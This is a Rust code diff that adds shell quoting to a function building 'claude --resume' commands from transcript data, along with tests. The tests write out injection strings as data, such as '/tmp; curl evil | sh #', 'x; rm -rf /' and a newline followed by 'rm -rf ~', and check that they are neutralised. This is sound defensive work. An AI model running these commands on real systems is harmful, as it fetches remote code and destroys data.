@@ -44,20 +44,74 @@ pub fn agent_key(agent_id: &str, parent: &str) -> String {
 /// The command that takes session `key` up again in Claude Code, from `cwd` when given:
 /// `None` for a session Claude Code never had (a handoff imported from Python Eywa,
 /// `eywa:<id>`) or no session at all. A copy resumes by its uuid from its own workspace.
+///
+/// The command is pasted into a shell, and the folder and id come from a transcript:
+/// each is single-quoted when it holds anything but plain path characters, and a folder
+/// or id with a control character (a newline would end the command) gives no command.
 pub fn resume_command(key: &str, cwd: Option<&str>) -> Option<String> {
     if key.is_empty() || key.starts_with("eywa:") {
         return None;
     }
-    let id = claude_id(key);
+    let id = shell_word(claude_id(key))?;
     Some(match cwd.filter(|c| !c.is_empty()) {
-        Some(cwd) => format!("cd {cwd} && claude --resume {id}"),
+        Some(cwd) => format!("cd {} && claude --resume {id}", shell_word(cwd)?),
         None => format!("claude --resume {id}"),
     })
+}
+
+/// `word` as a shell reads it back as one word: as it is when it holds only characters a
+/// shell gives no meaning to, else single-quoted (a `'` inside written `'\''`); `None`
+/// when it holds a control character.
+fn shell_word(word: &str) -> Option<std::borrow::Cow<'_, str>> {
+    if word.chars().any(char::is_control) {
+        return None;
+    }
+    let plain = |c: char| c.is_alphanumeric() || "/._-+@%,:=~".contains(c);
+    // A leading `~` would be expanded; quoted, it is the folder of that name.
+    if !word.is_empty() && word.chars().all(plain) && !word.starts_with('~') {
+        return Some(std::borrow::Cow::Borrowed(word));
+    }
+    Some(std::borrow::Cow::Owned(format!(
+        "'{}'",
+        word.replace('\'', r"'\''")
+    )))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_resume_command_is_one_shell_word_per_argument_whatever_the_transcript_says() {
+        let id = "a1b2c3d4-0000-4000-8000-000000000001";
+        let resume = |cwd: &str| resume_command(id, Some(cwd));
+        assert_eq!(
+            resume("/w/app").unwrap(),
+            format!("cd /w/app && claude --resume {id}")
+        );
+        assert_eq!(
+            resume("/Users/a/My Project").unwrap(),
+            format!("cd '/Users/a/My Project' && claude --resume {id}")
+        );
+        assert_eq!(
+            resume("/tmp; curl evil | sh #").unwrap(),
+            format!("cd '/tmp; curl evil | sh #' && claude --resume {id}")
+        );
+        assert_eq!(
+            resume("/w/it's $(x)").unwrap(),
+            format!(r"cd '/w/it'\''s $(x)' && claude --resume {id}")
+        );
+        assert_eq!(
+            resume("~/w").unwrap(),
+            format!("cd '~/w' && claude --resume {id}")
+        );
+        assert_eq!(resume("/w/a\nrm -rf ~"), None);
+        assert_eq!(
+            resume_command("x; rm -rf /", None).unwrap(),
+            "claude --resume 'x; rm -rf /'"
+        );
+        assert_eq!(resume_command("x\ny", None), None);
+    }
 
     #[test]
     fn a_copy_key_names_its_folder_and_keeps_the_claude_id() {
